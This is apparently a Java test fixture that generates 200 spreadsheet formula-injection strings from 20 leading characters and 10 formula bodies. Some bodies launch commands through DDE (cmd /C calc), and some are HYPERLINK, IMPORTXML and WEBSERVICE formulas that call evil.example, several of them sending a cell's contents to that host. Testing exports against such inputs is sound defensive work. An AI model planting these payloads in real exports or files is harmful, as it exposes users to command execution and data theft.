package org.countersign.testing;

import java.util.List;

/** Texts that a spreadsheet would run as a formula if it took them for one: starts × bodies. */
public final class Steering {

    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r\n=", " =", "\u00a0=", "\u3000+", "\u0000=", "\ufeff=", "＝",
            "＋", "－", "＠", "  -", "\u000b@");

    private static final List<String> BODIES = List.of(
            "1+1",
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"http://evil.example?x=\"&A1,\"Error\")",
            "IMPORTXML(CONCAT(\"http://evil.example\",A1),\"//a\")",
            "WEBSERVICE(\"http://evil.example\")",
            "DDE(\"cmd\";\"/C calc\";\"x\")",
            "SUM(1,1)\",=1+1,\"",
            "1+1\"\r\n=2+2",
            "2+5+cmd|' /C calc'!'A1'",
            "@SUM(1+9)*cmd|' /C calc'!A0");

    /** Two hundred of them. */
    public static final List<String> TEXTS = STARTS.stream()
            .flatMap(start -> BODIES.stream().map(body -> start + body))
            .toList();

    private Steering() {}
}
